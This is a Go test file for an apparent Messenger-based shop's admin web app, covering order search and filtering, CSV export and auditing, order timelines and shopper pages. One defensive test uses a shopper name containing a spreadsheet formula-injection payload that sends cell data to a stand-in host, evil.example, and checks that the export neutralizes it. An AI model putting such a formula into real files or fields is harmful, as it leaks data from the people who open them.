package web_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/chatshop/chatshop/demo"
	"github.com/chatshop/chatshop/models"
	"github.com/chatshop/chatshop/money"
)

// The orders list filters by status and finds an order by its number, its shopper's name or its
// payer's email; the owner downloads what the list shows as CSV, and the audit log says so.
func TestOrdersFilterSearchAndExport(t *testing.T) {
	ts := newTestServer(t)
	owner := ts.browser(t)
	owner.signIn("demo@chatshop.test", "demo-password")
	variant := ts.demoVariant(t, 5)
	paid := ts.buyAndPay(t, ts.newShopper(t, "Jordan Rivera"), variant)
	waiting := ts.newShopper(t, "Camille Tremblay")
	ts.buy(t, waiting, variant)
	pending := ts.orderOf(t, waiting)

	list := func(q url.Values) string { return owner.get("/app/orders?" + q.Encode()).body }
	shows := func(body string, o *models.Order) bool { return strings.Contains(body, ">"+o.Number()+"<") }
	for _, c := range []struct {
		query     url.Values
		paid, pen bool
	}{
		{url.Values{}, true, true},
		{url.Values{"status": {"paid"}}, true, false},
		{url.Values{"status": {"pending"}}, false, true},
		{url.Values{"q": {pending.Number()}}, false, true},
		{url.Values{"q": {"jord"}}, true, false},
		{url.Values{"q": {"buyer@sandbox.chatshop.test"}}, true, false},
		{url.Values{"q": {paid.CaptureID}}, true, false},
		{url.Values{"q": {"Camille"}, "status": {"paid"}}, false, false},
		{url.Values{"q": {"100%_"}}, false, false},
	} {
		body := list(c.query)
		if shows(body, paid) != c.paid || shows(body, pending) != c.pen {
			t.Errorf("%v: shows the paid order %v (want %v), the pending one %v (want %v)", c.query, shows(body, paid), c.paid, shows(body, pending), c.pen)
		}
	}
	if body := list(url.Values{"q": {"nobody"}}); !strings.Contains(body, "No orders match") {
		t.Errorf("a search that finds nothing does not say so")
	}

	res := owner.get("/app/orders/export?status=paid")
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("export: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	records, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil || len(records) != 2 || records[0][0] != "Order" || records[1][0] != paid.Number() || records[1][3] != "Jordan Rivera" ||
		records[1][5] != money.DecimalString(paid.TotalMinor, paid.Currency) || records[1][11] != "buyer@sandbox.chatshop.test" {
		t.Fatalf("export of the paid orders: %v %q", err, records)
	}
	if n := ts.count(t, "SELECT count(*) FROM audit_events WHERE action = ? AND target = 'orders' AND detail LIKE '1 orders%'", models.AuditExported); n != 1 {
		t.Errorf("the export is not in the audit log")
	}
}

// An order's page tells its story in order: placed, the conversation, PayPal's capture event
// (linked to the webhook log for owners) and the payment.
func TestOrderTimeline(t *testing.T) {
	ts := newTestServer(t)
	owner := ts.browser(t)
	owner.signIn("demo@chatshop.test", "demo-password")
	o := ts.buyAndPay(t, ts.newShopper(t, "Jordan Rivera"), ts.demoVariant(t, 5))
	waitUntil(t, "the capture webhook", func() bool {
		return ts.count(t, "SELECT count(*) FROM payment_notifications WHERE capture_id = ?", o.CaptureID) == 1
	})
	body := owner.get(fmt.Sprintf("/app/orders/%d", o.ID)).body
	_, timeline, ok := strings.Cut(body, `data-testid="order-timeline"`)
	if !ok {
		t.Fatal("the order page has no timeline")
	}
	last := -1
	for _, want := range []string{"Order placed in Messenger", "Bot:</span>", "Payment received: $", "/app/events/"} {
		i := strings.Index(timeline, want)
		if i < 0 {
			t.Fatalf("the timeline lacks %q:\n%s", want, timeline)
		}
		if want != "/app/events/" && i < last {
			t.Errorf("%q comes before what happened earlier", want)
		}
		last = i
	}
	if !strings.Contains(timeline, "Paid: the payment was captured") {
		t.Errorf("the timeline does not say the order was paid")
	}
}

// A shopper's page shows their profile, what they spent, their orders and their conversation.
func TestShopperPage(t *testing.T) {
	ts := newTestServer(t)
	owner := ts.browser(t)
	owner.signIn("demo@chatshop.test", "demo-password")
	psid := ts.newShopper(t, "Jordan Rivera")
	o := ts.buyAndPay(t, psid, ts.demoVariant(t, 5))
	var id int64
	ts.store.ReaderDB().QueryRow("SELECT id FROM shoppers WHERE psid = $1", psid).Scan(&id)
	if list := owner.get("/app/shoppers").body; !strings.Contains(list, fmt.Sprintf(`href="/app/shoppers/%d"`, id)) {
		t.Fatalf("the shoppers list does not link Jordan's page")
	}
	body := owner.get(fmt.Sprintf("/app/shoppers/%d", id)).body
	for _, want := range []string{"Jordan Rivera", o.Number(), o.Total().String() + " in 1 paid orders", "Receipt for order " + o.Number(),
		fmt.Sprintf(`href="/app/inbox/%d?view=all"`, id)} {
		if !strings.Contains(body, want) {
			t.Errorf("the shopper's page lacks %q", want)
		}
	}
}

// A shopper chooses their own name: one that a spreadsheet would run as a formula reaches the
// owner's orders CSV as text, with OWASP's leading apostrophe, and the total stays a number.
func TestOrdersExportNeutralizesFormulas(t *testing.T) {
	ts := newTestServer(t)
	owner := ts.browser(t)
	owner.signIn("demo@chatshop.test", "demo-password")
	name := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	body, _ := json.Marshal(map[string]string{"page_id": demo.PageID, "name": name, "locale": "en_US"})
	var shopper struct{ PSID string }
	if status := ts.sandboxJSON(t, http.MethodPost, "/sandbox/messenger/api/shoppers", string(body), &shopper); status != http.StatusCreated {
		t.Fatalf("create shopper: %d", status)
	}
	ts.buy(t, shopper.PSID, ts.demoVariant(t, 5))
	o := ts.orderOf(t, shopper.PSID)
	// The name reaches the order when the worker has read the shopper's profile, which may come
	// after the order under load.
	waitUntil(t, "the shopper's name on the order", func() bool {
		return ts.count(t, "SELECT count(*) FROM orders WHERE id = ? AND shopper_name <> ''", o.ID) == 1
	})

	res := owner.get("/app/orders/export")
	records, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil || len(records) != 2 || records[0][3] != "Shopper" || records[1][0] != o.Number() {
		t.Fatalf("export: %d %v %q", res.StatusCode, err, records)
	}
	if got, want := records[1][3], "'"+name; got != want {
		t.Errorf("shopper cell %q, want %q", got, want)
	}
	if got, want := records[1][5], money.DecimalString(o.TotalMinor, o.Currency); got != want {
		t.Errorf("total cell %q, want %q", got, want)
	}
}
